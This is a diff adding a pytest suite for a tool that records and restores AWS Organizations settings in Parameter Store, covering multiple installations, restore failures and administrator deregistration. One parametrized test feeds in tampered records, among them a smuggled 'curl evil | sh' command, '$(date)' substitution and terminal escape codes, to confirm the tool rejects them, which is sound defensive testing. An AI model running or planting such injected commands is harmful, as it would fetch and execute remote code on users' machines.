@@ -1,0 +1,281 @@
+"""What `ensure.py settings` records in Parameter Store, and what it makes of records that others wrote."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from sandbox import Fault
+from unit.cases import (
+    ACCOUNT_PLACEMENT,
+    ADMINISTRATOR,
+    DELEGATED_ADMINISTRATOR,
+    INSTALLATION,
+    RECORD,
+    SERVICE_LINKED_ROLE,
+    STACK_SETS_ACCESS,
+    TRUSTED_ACCESS,
+    parent,
+    place,
+    record,
+    recorded,
+    register,
+    registered,
+    root_id,
+    set_trusted,
+    settings_query,
+    trusted,
+    unit_id,
+)
+
+if TYPE_CHECKING:
+    from sandbox import Sandbox
+    from unit.conftest import Run
+
+_OTHER_INSTALLATION = "/systems-manager-organization/settings/another"
+_PLACEMENT = ACCOUNT_PLACEMENT.key
+
+
+def _entry(**members: object) -> dict[str, object]:
+    return {"subject": "", "value": "", "previous": "", "change": "", "retained": False, "reverted": False, **members}
+
+
+def _observed(run: Run, key: str, *, subject: str = "", value: str = "") -> dict[str, Any]:
+    settings = json.dumps([{"key": key, "subject": subject, "value": value}])
+    query = {"sync_name": "none", "installation": INSTALLATION, "record_region": "us-east-1", "settings": settings}
+    outcome = run("observe", "resource-data-sync", query=query)
+    assert (outcome.status, outcome.stderr) == (0, "")
+    observed: dict[str, dict[str, Any]] = json.loads(outcome.result["settings"])
+    return observed[key]
+
+
+# What a plan is told
+
+
+def test_a_complete_change_keeps_its_words(aws: Sandbox, run: Run) -> None:
+    run("ensure", "settings", query=settings_query(TRUSTED_ACCESS.desired(aws, change="disabled -> enabled (T1)")))
+    assert _observed(run, TRUSTED_ACCESS.key) == {
+        "value": "enabled",
+        "previous": "disabled",
+        "change": "disabled -> enabled (T1)",
+        "superseded": "",
+        "others": [],
+    }
+    set_trusted(aws, "disabled")
+    assert _observed(run, TRUSTED_ACCESS.key)["change"] == "", "it is no longer so"
+
+
+def test_an_interrupted_change_has_none(aws: Sandbox, run: Run) -> None:
+    aws.faults.inject(Fault("organizations", "MoveAccount", "access_denied", times=1000))
+    settings = [case.desired(aws, change="as planned") for case in (TRUSTED_ACCESS, ACCOUNT_PLACEMENT)]
+    assert run("ensure", "settings", query=settings_query(*settings)).status == 1
+    assert _observed(run, TRUSTED_ACCESS.key)["change"] == "as planned", "this one is complete"
+    placed = _observed(run, _PLACEMENT, subject=ADMINISTRATOR)
+    assert (placed["value"], placed["previous"], placed["change"]) == (root_id(aws), root_id(aws), "")
+
+
+def test_without_a_state_the_record_knows_what_was_before(aws: Sandbox, run: Run) -> None:
+    run("ensure", "settings", query=settings_query(ACCOUNT_PLACEMENT.desired(aws)))
+    observed = _observed(run, _PLACEMENT, subject=ADMINISTRATOR)
+    assert (observed["value"], observed["previous"]) == (unit_id(aws, "SystemsManager"), root_id(aws))
+
+
+def test_another_subject_is_another_setting(aws: Sandbox, run: Run) -> None:
+    run("ensure", "settings", query=settings_query(ACCOUNT_PLACEMENT.desired(aws)))
+    observed = _observed(run, _PLACEMENT, subject="333333333333")
+    unit, root = unit_id(aws, "SystemsManager"), root_id(aws)
+    assert (observed["value"], observed["previous"], observed["change"]) == (root, root, "")
+    assert observed["superseded"] == f"{ADMINISTRATOR}: {unit} -> {root}; 333333333333: "
+
+    other = ACCOUNT_PLACEMENT.desired(aws, subject="333333333333")
+    outcome = run("ensure", "settings", query=settings_query(other))
+    assert outcome.stdout == f"{_PLACEMENT}: {root} again (was {unit}).\n{_PLACEMENT}: {unit} (was {root}).\n"
+    assert parent(aws) == root
+    assert recorded(aws)[_PLACEMENT]["subject"] == "333333333333"
+
+
+# Several installations
+
+
+def test_what_another_installation_made_is_shared_until_the_last_one_goes(aws: Sandbox, run: Run) -> None:
+    set_trusted(aws, "enabled")
+    record(aws, {TRUSTED_ACCESS.key: _entry(value="enabled", previous="disabled")}, name=_OTHER_INSTALLATION)
+    observed = _observed(run, TRUSTED_ACCESS.key)
+    assert observed["previous"] == "disabled", "the other one changed it"
+    assert observed["others"] == [{"installation": "another", "value": "enabled"}]
+
+    query = settings_query(TRUSTED_ACCESS.desired(aws))
+    run("ensure", "settings", query=query)
+    outcome = run("ensure", "settings", query={**query, "action": "restore"})
+    assert outcome.stdout == (
+        f"{TRUSTED_ACCESS.key}: left as it is, because the installation another has it as well.\n"
+    )
+    assert trusted(aws) == "enabled"
+
+    run("ensure", "settings", query=query)
+    aws.client("ssm").delete_parameter(Name=_OTHER_INSTALLATION)
+    run("ensure", "settings", query={**query, "action": "restore"})
+    assert trusted(aws) == "disabled"
+
+
+def test_what_another_installation_changed_back_is_not_its_any_more(aws: Sandbox, run: Run) -> None:
+    record(aws, {TRUSTED_ACCESS.key: _entry(value="enabled", reverted=True)}, name=_OTHER_INSTALLATION)
+    assert _observed(run, TRUSTED_ACCESS.key)["others"] == []
+
+
+# Records that cannot be believed
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "{",
+        "[]",
+        '{"schema": 2, "settings": {}}',
+        '{"schema": 1, "settings": []}',
+        '{"schema": 1, "settings": {"trusted-access/x": {"value": "enabled"}}}',
+        json.dumps({"schema": 1, "settings": {"time-travel/x": _entry()}}),
+        json.dumps({"schema": 1, "settings": {"trusted-access/x": _entry(value=1)}}),
+        # What people would be shown, or told to paste.
+        json.dumps({"schema": 1, "settings": {"trusted-access/\x1b[2J": _entry(value="enabled", previous="disabled")}}),
+        json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", previous="r-sbox; curl evil | sh")}}),
+        json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", subject="$(date)")}}),
+        json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", change="\x1b[2J")}}),
+        json.dumps({"schema": 1, "settings": {DELEGATED_ADMINISTRATOR.key: _entry(value="none", previous="abc")}}),
+    ],
+)
+def test_what_this_version_did_not_write_is_no_record(aws: Sandbox, run: Run, value: str) -> None:
+    aws.client("ssm").put_parameter(Name=RECORD, Value=value, Type="String")
+    set_trusted(aws, "enabled")
+    assert _observed(run, TRUSTED_ACCESS.key)["change"] == ""
+    outcome = run("ensure", "settings", query=settings_query(TRUSTED_ACCESS.desired(aws), action="restore"))
+    assert (outcome.status, outcome.stderr) == (0, ""), "the state knows what was before"
+    assert trusted(aws) == "disabled"
+
+
+def test_the_state_decides_where_an_account_goes_back_to(aws: Sandbox, run: Run) -> None:
+    query = settings_query(ACCOUNT_PLACEMENT.desired(aws))
+    run("ensure", "settings", query=query)
+    elsewhere = unit_id(aws, "Elsewhere")
+    record(aws, {_PLACEMENT: {**recorded(aws)[_PLACEMENT], "previous": elsewhere}})
+    run("ensure", "settings", query={**query, "action": "restore"})
+    assert parent(aws) == root_id(aws)
+
+
+def test_a_record_alone_moves_no_account_on_destroy(aws: Sandbox, run: Run) -> None:
+    unit, elsewhere = unit_id(aws, "SystemsManager"), unit_id(aws, "Elsewhere")
+    place(aws, unit)
+    record(aws, {_PLACEMENT: _entry(subject=ADMINISTRATOR, value=unit, previous=elsewhere)})
+    outcome = run("ensure", "settings", query=settings_query(action="restore"))
+    assert outcome.status == 0
+    assert f"left as it is, because only {RECORD} says that it was in {elsewhere}" in outcome.stdout
+    assert f"aws organizations move-account --account-id {ADMINISTRATOR} --source-parent-id {unit}" in outcome.stdout
+    assert parent(aws) == unit
+
+
+# Changing back
+
+
+def test_what_could_not_be_changed_back_is_named_and_the_rest_goes_on(aws: Sandbox, run: Run) -> None:
+    set_trusted(aws, "enabled")
+    cases = (TRUSTED_ACCESS, STACK_SETS_ACCESS, SERVICE_LINKED_ROLE, ACCOUNT_PLACEMENT, DELEGATED_ADMINISTRATOR)
+    query = settings_query(*(case.desired(aws) for case in cases))
+    run("ensure", "settings", query=query)
+    aws.faults.inject(Fault("organizations", "DeregisterDelegatedAdministrator", "access_denied", times=1000))
+    outcome = run("ensure", "settings", query={**query, "action": "restore"})
+    assert (outcome.status, outcome.stdout) == (1, "")
+    assert "organizations:DeregisterDelegatedAdministrator failed" in outcome.stderr
+    assert f"{TRUSTED_ACCESS.key}: stays until the rest is changed back." in outcome.stderr
+    assert parent(aws) == root_id(aws), "this does not hang on it"
+    assert trusted(aws) == "enabled"
+    assert set(recorded(aws)) == {TRUSTED_ACCESS.key, STACK_SETS_ACCESS.key, DELEGATED_ADMINISTRATOR.key}
+
+    aws.faults.reset()
+    assert run("ensure", "settings", query={**query, "action": "restore"}).status == 0
+    assert (registered(aws), trusted(aws), recorded(aws)) == ("none", "disabled", {})
+
+
+def test_where_the_former_unit_is_gone_the_account_goes_to_the_root(aws: Sandbox, run: Run) -> None:
+    former = unit_id(aws, "Elsewhere")
+    place(aws, former)
+    query = settings_query(ACCOUNT_PLACEMENT.desired(aws, previous=former))
+    run("ensure", "settings", query=query)
+    aws.client("organizations").delete_organizational_unit(OrganizationalUnitId=former)
+    outcome = run("ensure", "settings", query={**query, "action": "restore"})
+    assert outcome.status == 0
+    unit = unit_id(aws, "SystemsManager")
+    assert outcome.stdout.endswith(f": {root_id(aws)} again (was {unit}) ({former} is gone).\n")
+    assert parent(aws) == root_id(aws)
+
+
+def test_an_account_that_left_the_organization_is_no_obstacle(aws: Sandbox, run: Run) -> None:
+    gone = ACCOUNT_PLACEMENT.desired(aws, subject="999999999999")
+    outcome = run("ensure", "settings", query=settings_query(gone, action="restore"))
+    assert (outcome.status, outcome.stderr) == (0, "")
+    assert "left as it is, because it is not set and no longer ou-" in outcome.stdout
+    refused = run("ensure", "settings", query=settings_query(gone))
+    assert refused.status == 1
+    assert 'account "999999999999" cannot be placed in ou-' in refused.stderr
+
+
+def test_another_administrator_takes_the_place_of_the_first(aws: Sandbox, run: Run) -> None:
+    set_trusted(aws, "enabled")
+    run("ensure", "settings", query=settings_query(DELEGATED_ADMINISTRATOR.desired(aws)))
+    second = DELEGATED_ADMINISTRATOR.desired(aws, value="333333333333")
+    outcome = run("ensure", "settings", query=settings_query(second))
+    assert outcome.stdout == f"{DELEGATED_ADMINISTRATOR.key}: 333333333333 (was {ADMINISTRATOR}).\n"
+    assert registered(aws) == "333333333333"
+
+
+# Before an administrator is deregistered
+
+_GUARD = {"member_role_name": "OrganizationAccountAccessRole", "regions": '["us-east-1"]'}
+
+
+@pytest.fixture
+def explorer(aws: Sandbox) -> dict[str, str]:
+    """A registered administrator whose account has a sync of the organization; the query that restores."""
+    set_trusted(aws, "enabled")
+    register(aws, ADMINISTRATOR)
+    aws.client("iam", ADMINISTRATOR).create_service_linked_role(AWSServiceName="accountdiscovery.ssm.amazonaws.com")
+    aws.client("ssm", ADMINISTRATOR).create_resource_data_sync(
+        SyncName="explorer",
+        SyncType="SyncFromSource",
+        SyncSource={
+            "SourceType": "AwsOrganizations",
+            "SourceRegions": ["us-east-1"],
+            "AwsOrganizationsSource": {"OrganizationSourceType": "EntireOrganization"},
+        },
+    )
+    return settings_query(DELEGATED_ADMINISTRATOR.desired(aws), action="restore")
+
+
+def test_a_sync_that_aws_would_delete_keeps_the_administrator(aws: Sandbox, run: Run, explorer: dict[str, str]) -> None:
+    outcome = run("ensure", "settings", query={**explorer, **_GUARD})
+    assert (outcome.status, outcome.stdout) == (1, "")
+    assert "AWS would delete the resource data syncs of the organization that it has: explorer (us-east-1)" in (
+        outcome.stderr
+    )
+    assert "Destroy the configuration of the administrator account first" in outcome.stderr
+    assert registered(aws) == ADMINISTRATOR
+
+    aws.client("ssm", ADMINISTRATOR).delete_resource_data_sync(SyncName="explorer", SyncType="SyncFromSource")
+    assert run("ensure", "settings", query={**explorer, **_GUARD}).status == 0
+    assert registered(aws) == "none"
+
+
+def test_an_account_that_cannot_be_looked_into_is_deregistered_with_a_warning(
+    aws: Sandbox, run: Run, explorer: dict[str, str]
+) -> None:
+    outcome = run("ensure", "settings", query={**explorer, **_GUARD, "member_role_name": "Nobody"})
+    assert outcome.status == 0
+    assert f"Explorer's resource data syncs in account {ADMINISTRATOR} could not be listed" in outcome.stderr
+    assert registered(aws) == "none"
+
+
+def test_without_a_role_nothing_is_looked_at(aws: Sandbox, run: Run, explorer: dict[str, str]) -> None:
+    assert run("ensure", "settings", query=explorer).status == 0
+    assert "AssumeRole" not in {call.operation for call in aws.calls}
+    assert registered(aws) == "none"
